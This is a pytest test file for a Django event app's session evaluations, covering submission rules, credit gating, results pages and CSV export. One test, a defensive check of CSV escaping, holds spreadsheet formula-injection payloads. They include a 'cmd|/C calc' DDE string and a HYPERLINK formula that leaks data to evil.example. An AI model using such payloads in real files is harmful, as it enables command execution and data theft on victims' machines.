"""Evaluations: an attendee evaluates a session they attended, once; organizers
read averages, distributions and comments, and export them as CSV."""

import csv
import io
import threading
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from unittest import mock

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from credits.csvutil import safe_cell
from credits.evaluation_selectors import (
    evaluation_results,
    pending_evaluations,
    questions_for,
)
from credits.models import CreditOffering, CreditSettings, Evaluation, EvaluationQuestion
from credits.selectors import credit_summary
from credits.services import evaluations as evaluation_services
from credits.services.awards import refresh_awards
from credits.services.evaluations import InvalidEvaluation, evaluation_submit
from events.errors import RegistrationError
from events.models import Registration
from tests.conftest import requires_postgres
from tests.credits.conftest import at, attend, preset, register
from tests.factories import make_event, make_organizer, make_session

pytestmark = pytest.mark.django_db

GOOD = {
    "objectives_met": 5,
    "relevance": 4,
    "presenter_knowledge": 5,
    "level_appropriate": 3,
    "would_recommend": 4,
    "comments": "Clear and practical.",
}


def ratings(evaluation):
    return [getattr(evaluation, name) for name in Evaluation.STANDARD_ITEMS]


def form_post(**overrides):
    data = {name: str(value) for name, value in GOOD.items()}
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


@pytest.fixture
def attended(attendee_registration, morning):
    """Maya attended the whole morning workshop (scans only: awards are stale)."""
    attend(attendee_registration, morning, at(8, 55), at(12, 1))
    return attendee_registration


@pytest.fixture
def organizer(credit_event):
    return make_organizer(credit_event.organization)


def evaluate_url(registration, session):
    return reverse("credits:evaluate", args=[registration.code, session.pk])


# ------------------------------------------------------------------ the service


def test_attendee_who_attended_submits_an_evaluation(attended, morning):
    # No one refreshed the awards since the scans arrived: the service does.
    evaluation = evaluation_submit(
        registration=attended, session=morning, by=attended.user, data=GOOD
    )
    evaluation.refresh_from_db()
    assert ratings(evaluation) == [5, 4, 5, 3, 4]
    assert evaluation.comments == "Clear and practical."
    assert evaluation.submitted_at is not None


def test_a_scan_uploaded_after_the_last_refresh_counts_as_attendance(
    credit_event, attendee_registration, morning
):
    refresh_awards(credit_event)  # awards computed before Maya's scans arrived
    attend(attendee_registration, morning, at(9), at(12))
    evaluation_submit(
        registration=attendee_registration,
        session=morning,
        by=attendee_registration.user,
        data=GOOD,
    )
    assert Evaluation.objects.filter(registration=attendee_registration).count() == 1


def test_a_session_without_verified_attendance_cannot_be_evaluated(attended, afternoon, morning):
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(registration=attended, session=afternoon, by=attended.user, data=GOOD)
    assert error.value.code == "not_attended"
    assert not Evaluation.objects.exists()


def test_only_the_attendee_can_submit_their_evaluation(attended, morning, organizer):
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(registration=attended, session=morning, by=organizer, data=GOOD)
    assert error.value.code == "forbidden"
    assert not Evaluation.objects.exists()


def test_a_session_of_another_event_cannot_be_evaluated(attended, org):
    elsewhere = make_session(make_event(org), start=at(9))
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(registration=attended, session=elsewhere, by=attended.user, data=GOOD)
    assert error.value.code == "wrong_event"


def test_a_cancelled_registration_cannot_evaluate(attended, morning):
    Registration.objects.filter(pk=attended.pk).update(status=Registration.Status.CANCELLED)
    attended.refresh_from_db()
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    assert error.value.code == "not_confirmed"


def test_a_session_that_has_not_started_cannot_be_evaluated(
    credit_event, attendee_registration, apa
):
    later = make_session(credit_event, start=timezone.now() + timedelta(days=1), minutes=60)
    CreditOffering.objects.create(session=later, accreditation=apa, hours=1, rule=preset("apa"))
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(
            registration=attendee_registration,
            session=later,
            by=attendee_registration.user,
            data=GOOD,
        )
    assert error.value.code == "not_started"


def test_an_evaluation_is_submitted_once_and_a_second_changes_nothing(attended, morning):
    evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    again = {**GOOD, "objectives_met": 1, "comments": "Changed my mind."}
    with pytest.raises(RegistrationError) as error:
        evaluation_submit(registration=attended, session=morning, by=attended.user, data=again)
    assert error.value.code == "already_evaluated"
    stored = Evaluation.objects.get()
    assert stored.objectives_met == 5
    assert stored.comments == "Clear and practical."


def test_when_another_request_stores_it_first_the_unique_constraint_decides(attended, morning):
    """A double click: the other request commits after our check looked."""
    evaluation_submit(
        registration=attended, session=morning, by=attended.user, data={**GOOD, "comments": "first"}
    )
    # Our check ran before the other request committed, so it saw nothing.
    with (
        mock.patch.object(evaluation_services, "check_can_evaluate"),
        pytest.raises(RegistrationError) as error,
    ):
        evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    assert error.value.code == "already_evaluated"
    assert Evaluation.objects.get().comments == "first"


@requires_postgres
@pytest.mark.django_db(transaction=True)
def test_two_tabs_submitting_at_once_store_one_evaluation(attended, morning, credit_event):
    refresh_awards(credit_event)
    barrier = threading.Barrier(4)
    outcomes = []

    def submit(n):
        try:
            barrier.wait()
            evaluation_submit(
                registration=attended,
                session=morning,
                by=attended.user,
                data={**GOOD, "comments": f"tab {n}"},
            )
            outcomes.append("stored")
        except RegistrationError as error:
            outcomes.append(error.code)
        finally:
            connection.close()

    threads = [threading.Thread(target=submit, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["already_evaluated"] * 3 + ["stored"]
    assert Evaluation.objects.filter(registration=attended, session=morning).count() == 1


def test_a_required_custom_question_must_be_answered(attended, morning, credit_event):
    question = EvaluationQuestion.objects.create(
        event=credit_event, prompt="The venue was accessible", required=True
    )
    with pytest.raises(InvalidEvaluation) as error:
        evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    assert error.value.field == f"q{question.pk}"
    assert not Evaluation.objects.exists()
    data = {**GOOD, "answers": {str(question.pk): 4}}
    evaluation = evaluation_submit(
        registration=attended, session=morning, by=attended.user, data=data
    )
    assert evaluation.answers == {str(question.pk): 4}


@pytest.mark.parametrize(
    "change, field",
    [
        ({"relevance": 6}, "relevance"),
        ({"relevance": 0}, "relevance"),
        ({"relevance": "a lot"}, "relevance"),
        ({"relevance": True}, "relevance"),
        ({"would_recommend": None}, "would_recommend"),
        ({"comments": "x" * 2001}, "comments"),
    ],
)
def test_bad_values_are_refused_and_nothing_is_stored(attended, morning, change, field):
    with pytest.raises(InvalidEvaluation) as error:
        evaluation_submit(
            registration=attended, session=morning, by=attended.user, data={**GOOD, **change}
        )
    assert error.value.field == field
    assert not Evaluation.objects.exists()


def test_text_answers_are_trimmed_and_limited(attended, morning, credit_event):
    text = EvaluationQuestion.objects.create(
        event=credit_event, prompt="What will you use in practice?", kind="text"
    )
    with pytest.raises(InvalidEvaluation):
        evaluation_submit(
            registration=attended,
            session=morning,
            by=attended.user,
            data={**GOOD, "answers": {str(text.pk): "y" * 2001}},
        )
    evaluation = evaluation_submit(
        registration=attended,
        session=morning,
        by=attended.user,
        data={**GOOD, "comments": "  Great pacing.\n ", "answers": {str(text.pk): "  grounding  "}},
    )
    assert evaluation.comments == "Great pacing."
    assert evaluation.answers == {str(text.pk): "grounding"}


def test_questions_are_the_events_plus_this_sessions_in_the_organizers_order(
    credit_event, morning, afternoon
):
    second = EvaluationQuestion.objects.create(event=credit_event, prompt="Second", position=2)
    first = EvaluationQuestion.objects.create(event=credit_event, prompt="First", position=1)
    own = EvaluationQuestion.objects.create(
        event=credit_event, session=morning, prompt="About the morning", position=3
    )
    EvaluationQuestion.objects.create(event=credit_event, session=afternoon, prompt="Afternoon")
    assert questions_for(morning) == [first, second, own]


def test_pending_evaluations_lists_attended_sessions_not_yet_evaluated(
    attended, morning, afternoon
):
    attend(attended, afternoon, at(12, 58), at(14))
    assert pending_evaluations(attended) == [morning, afternoon]
    evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    assert pending_evaluations(attended) == [afternoon]


# ------------------------------------------------------------------ certificate gating


def test_a_sessions_credit_counts_only_once_it_is_evaluated(attended, morning):
    summary = credit_summary(attended)
    assert summary.counted == []
    assert [s.session for s in summary.awaiting_evaluation] == [morning]
    evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    assert [s.session for s in credit_summary(attended).counted] == [morning]


def test_credit_counts_without_evaluation_when_the_provider_does_not_require_it(
    attended, morning, credit_event
):
    CreditSettings.objects.filter(event=credit_event).update(evaluation_required=False)
    assert [s.session for s in credit_summary(attended).counted] == [morning]


# ------------------------------------------------------------------ attendee pages


def test_the_form_asks_each_item_in_a_fieldset_with_labelled_ratings(
    client, attended, morning, credit_event
):
    EvaluationQuestion.objects.create(event=credit_event, prompt="Handouts were useful")
    client.force_login(attended.user)
    response = client.get(evaluate_url(attended, morning))
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("<fieldset") == 6  # five standard items and one custom question
    assert "<legend" in html and "The learning objectives were met" in html
    assert "Handouts were useful" in html
    assert "1 Strongly disagree" in html and "5 Strongly agree" in html
    assert 'name="comments"' in html


def test_submitting_the_form_stores_it_and_says_thank_you(client, attended, morning):
    client.force_login(attended.user)
    response = client.post(evaluate_url(attended, morning), form_post(), follow=True)
    assert response.redirect_chain[-1][0] == reverse("credits:my_evaluations", args=[attended.code])
    assert "your evaluation of “Ethics in Trauma Treatment” is in" in response.content.decode()
    assert ratings(Evaluation.objects.get(registration=attended)) == [5, 4, 5, 3, 4]


def test_after_submitting_the_attendee_sees_their_answers_read_only(client, attended, morning):
    evaluation_submit(registration=attended, session=morning, by=attended.user, data=GOOD)
    client.force_login(attended.user)
    response = client.get(evaluate_url(attended, morning))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Your evaluation" in html and "Clear and practical." in html
    assert "3 out of 5" in html
    assert '<form method="post" class="evaluation-form"' not in html


def test_a_second_post_does_not_change_the_evaluation(client, attended, morning):
    client.force_login(attended.user)
    client.post(evaluate_url(attended, morning), form_post())
    response = client.post(evaluate_url(attended, morning), form_post(objectives_met="1"))
    assert response.status_code == 200  # the read-only page
    assert "already submitted this evaluation; it is unchanged" in response.content.decode()
    assert Evaluation.objects.get().objectives_met == 5


def test_an_empty_post_shows_what_is_missing(client, attended, morning):
    client.force_login(attended.user)
    response = client.post(evaluate_url(attended, morning), {})
    assert response.content.decode().count("Choose a rating from 1 to 5.") >= 5
    assert not Evaluation.objects.exists()


@pytest.mark.parametrize(
    "overrides, message",
    [
        ({"objectives_met": "6"}, "Choose one of the ratings 1 to 5."),
        ({"relevance": None}, "Choose a rating from 1 to 5."),
        ({"comments": "z" * 2001}, "at most 2000 characters"),
    ],
)
def test_bad_form_values_show_errors_and_store_nothing(
    client, attended, morning, overrides, message
):
    client.force_login(attended.user)
    response = client.post(evaluate_url(attended, morning), form_post(**overrides))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Please check the following" in html and message in html
    assert 'aria-invalid="true"' in html
    assert not Evaluation.objects.exists()


def test_an_unanswered_required_question_is_shown_on_the_form(
    client, attended, morning, credit_event
):
    question = EvaluationQuestion.objects.create(
        event=credit_event, prompt="What will you change in your practice?", kind="text",
        required=True,
    )  # fmt: skip
    client.force_login(attended.user)
    response = client.post(evaluate_url(attended, morning), form_post(**{f"q{question.pk}": "  "}))
    assert "Please answer this question." in response.content.decode()
    assert not Evaluation.objects.exists()
    client.post(evaluate_url(attended, morning), form_post(**{f"q{question.pk}": "More grounding"}))
    assert Evaluation.objects.get().answers == {str(question.pk): "More grounding"}


def test_a_session_not_attended_shows_why_it_cannot_be_evaluated(
    client, attended, morning, afternoon
):
    client.force_login(attended.user)
    response = client.get(evaluate_url(attended, afternoon))
    assert response.status_code == 200
    assert "No verified attendance for this session" in response.content.decode()
    client.post(evaluate_url(attended, afternoon), form_post())
    assert not Evaluation.objects.exists()


def test_a_session_not_started_says_so(client, credit_event, attendee_registration):
    later = make_session(credit_event, start=timezone.now() + timedelta(hours=2), minutes=60)
    client.force_login(attendee_registration.user)
    response = client.get(evaluate_url(attendee_registration, later))
    assert "This session has not started yet" in response.content.decode()


def test_my_evaluations_lists_pending_and_done_with_links(client, attended, morning, afternoon):
    attend(attended, afternoon, at(13), at(14))
    evaluation_submit(registration=attended, session=afternoon, by=attended.user, data=GOOD)
    client.force_login(attended.user)
    response = client.get(reverse("credits:my_evaluations", args=[attended.code]))
    html = response.content.decode()
    pending, done = html.split('id="done-heading"')
    assert "Ethics in Trauma Treatment" in pending and evaluate_url(attended, morning) in pending
    assert "Suicide Risk Assessment" in done and "View your answers" in done
    assert "once you have submitted its evaluation" in html  # evaluation is required here


# ------------------------------------------------------------------ results


def evaluate_as(event, session, items, answers=None, comments=""):
    """An evaluation stored as the service would store it (skips attendance)."""
    registration = register(event)
    return Evaluation.objects.create(
        registration=registration,
        session=session,
        **dict(zip(Evaluation.STANDARD_ITEMS, items, strict=True)),
        answers=answers or {},
        comments=comments,
    )


@pytest.fixture
def rated(credit_event, morning):
    """Four evaluations of the morning, with a custom scale and a text question."""
    scale = EvaluationQuestion.objects.create(
        event=credit_event, prompt="Handouts were useful", position=1
    )
    text = EvaluationQuestion.objects.create(
        event=credit_event, prompt="One thing to improve", kind="text", position=2
    )
    rows = [
        ((5, 5, 5, 4, 1), {str(scale.pk): 5}, "Superb."),
        ((4, 5, 4, 4, 2), {str(scale.pk): 4, str(text.pk): "More breaks"}, ""),
        ((4, 4, 5, 3, 2), {}, ""),
        ((3, 4, 5, 3, 2), {str(scale.pk): 2}, "Room too cold."),
    ]
    for items, answers, comments in rows:
        evaluate_as(credit_event, morning, items, answers, comments)
    return {"scale": scale, "text": text}


def test_results_give_count_average_and_distribution_per_item(morning, rated):
    results = evaluation_results(morning)
    assert results.responses == 4
    by_key = {r.key: r for r in results.standard}
    assert by_key["objectives_met"].average == Decimal("4.0")
    assert by_key["objectives_met"].counts == [0, 0, 1, 2, 1]
    assert by_key["relevance"].average == Decimal("4.5")
    assert by_key["level_appropriate"].average == Decimal("3.5")
    assert by_key["would_recommend"].average == Decimal("1.8")  # 1.75 rounds half up
    assert [d["percent"] for d in by_key["would_recommend"].distribution] == [25, 75, 0, 0, 0]
    (handouts,) = results.custom
    assert (handouts.count, handouts.average) == (3, Decimal("3.7"))
    assert [(r.comments, r.answers) for r in results.remarks] == [
        ("Superb.", []),
        ("", [("One thing to improve", "More breaks")]),
        ("Room too cold.", []),
    ]


def test_results_page_shows_averages_charts_and_comments(
    client, credit_event, morning, rated, organizer
):
    client.force_login(organizer)
    url = reverse("credits:evaluation_results", args=[credit_event.slug, morning.pk])
    html = client.get(url).content.decode()
    assert "4 evaluations submitted" in html
    assert "Average 4.0" in html and "Average 4.5" in html
    assert "<svg" in html and 'aria-hidden="true"' in html  # bars, with a table as text
    assert "<caption" in html and "75%" in html
    assert "Room too cold." in html and "More breaks" in html
    assert "anonymous to presenters" in html
    assert "@example.com" not in html  # no attendee identity


def test_comments_are_paginated(client, credit_event, morning, organizer):
    for n in range(25):
        evaluate_as(credit_event, morning, (4, 4, 4, 4, 4), comments=f"Comment number {n:02}")
    client.force_login(organizer)
    url = reverse("credits:evaluation_results", args=[credit_event.slug, morning.pk])
    first = client.get(url).content.decode()
    second = client.get(url + "?page=2").content.decode()
    assert "Comment number 00" in first and "Comment number 24" not in first
    assert "Comment number 24" in second and "Comment number 00" not in second
    assert "Page 1 of 2" in first


def test_results_page_runs_a_fixed_number_of_queries(
    client, credit_event, morning, rated, organizer, django_assert_max_num_queries
):
    client.force_login(organizer)
    url = reverse("credits:evaluation_results", args=[credit_event.slug, morning.pk])
    client.get(url)  # warm the session and caches
    with django_assert_max_num_queries(9) as few:  # 8 + the nav's unread-notification count
        assert client.get(url).status_code == 200
    for n in range(30):
        evaluate_as(credit_event, morning, (3, 3, 3, 3, 3), comments=f"c{n}")
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url).status_code == 200


def test_overview_lists_each_credit_session_with_responses_and_averages(
    client, credit_event, morning, afternoon, rated, organizer, attended,
    django_assert_max_num_queries,
):  # fmt: skip
    client.force_login(organizer)
    url = reverse("credits:evaluation_overview", args=[credit_event.slug])
    client.get(url)
    with django_assert_max_num_queries(15):  # 14 + the nav's unread-notification count
        response = client.get(url)
    html = response.content.decode()
    assert "4 evaluations submitted" in html
    assert reverse("credits:evaluation_results", args=[credit_event.slug, morning.pk]) in html
    assert "Suicide Risk Assessment" in html
    summary = {s.session: s for s in response.context["summaries"]}
    assert summary[morning].responses == 4
    assert summary[morning].attended == 1  # Maya; the four raters have no scans
    assert summary[morning].averages[1] == Decimal("4.5")
    assert summary[afternoon].responses == 0 and summary[afternoon].overall is None


# ------------------------------------------------------------------ CSV


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # so Excel reads accented names correctly
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_event_csv_has_one_row_per_evaluation_in_the_event_time_zone(
    client, credit_event, morning, afternoon, attended, organizer
):
    text = EvaluationQuestion.objects.create(
        event=credit_event, prompt="One thing to improve", kind="text"
    )
    own = EvaluationQuestion.objects.create(
        event=credit_event, session=afternoon, prompt="Case examples helped"
    )
    first = evaluation_submit(
        registration=attended,
        session=morning,
        by=attended.user,
        data={**GOOD, "answers": {str(text.pk): "Longer Q&A"}},
    )
    other = evaluate_as(credit_event, afternoon, (2, 3, 4, 5, 1), {str(own.pk): 4}, "Fine")
    Evaluation.objects.filter(pk=first.pk).update(
        submitted_at=datetime(2026, 10, 15, 16, 5, tzinfo=UTC)
    )
    client.force_login(organizer)
    response = client.get(reverse("credits:evaluations_csv", args=[credit_event.slug]))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header == [
        "Session", "Session starts (America/New_York)", "Registration code",
        "Submitted (America/New_York)", "The learning objectives were met",
        "Relevant to my practice", "The presenters were knowledgeable and effective",
        "The content suited its instructional level", "I would recommend it",
        "One thing to improve", "Case examples helped [Suicide Risk Assessment]", "Comments",
    ]  # fmt: skip
    assert rows == [
        ["Ethics in Trauma Treatment", "2026-10-15 09:00", attended.code, "2026-10-15 12:05",
         "5", "4", "5", "3", "4", "Longer Q&A", "", "Clear and practical."],
        ["Suicide Risk Assessment", "2026-10-15 13:00", other.registration.code,
         rows[1][3], "2", "3", "4", "5", "1", "", "4", "Fine"],
    ]  # fmt: skip
    assert attended.user.email not in str(rows) and "Maya" not in str(rows)


def test_session_csv_holds_only_that_sessions_evaluations_and_questions(
    client, credit_event, morning, afternoon, organizer
):
    EvaluationQuestion.objects.create(
        event=credit_event, session=afternoon, prompt="Afternoon only"
    )
    evaluate_as(credit_event, morning, (5, 5, 5, 5, 5))
    evaluate_as(credit_event, afternoon, (1, 1, 1, 1, 1))
    client.force_login(organizer)
    url = reverse("credits:evaluation_session_csv", args=[credit_event.slug, morning.pk])
    header, *rows = read_csv(client.get(url))
    assert "Afternoon only" not in header
    assert [row[0] for row in rows] == ["Ethics in Trauma Treatment"]


def test_csv_cells_cannot_run_formulas_in_a_spreadsheet(client, credit_event, morning, organizer):
    sneaky = EvaluationQuestion.objects.create(
        event=credit_event, prompt="=cmd|'/C calc'!A0", kind="text"
    )
    evaluate_as(
        credit_event, morning, (5, 4, 3, 2, 1),
        {str(sneaky.pk): "@SUM(1+1)*cmd|' /C calc'!A0"},
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    )  # fmt: skip
    evaluate_as(credit_event, morning, (5, 4, 3, 2, 1), comments="+1 from me")
    evaluate_as(credit_event, morning, (5, 4, 3, 2, 1), comments="-- great session")
    client.force_login(organizer)
    url = reverse("credits:evaluation_session_csv", args=[credit_event.slug, morning.pk])
    header, *rows = read_csv(client.get(url))
    assert header[-2] == "'=cmd|'/C calc'!A0"
    assert rows[0][-2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0][-1].startswith("'=HYPERLINK(")
    assert rows[1][-1] == "'+1 from me"
    assert rows[2][-1] == "'-- great session"
    assert rows[0][4:9] == ["5", "4", "3", "2", "1"]  # numbers are left alone


def test_safe_cell_escapes_every_formula_start_and_leaves_numbers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1") == f"'{start}1"
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell("Plain text") == "Plain text"
    assert safe_cell(None) == ""
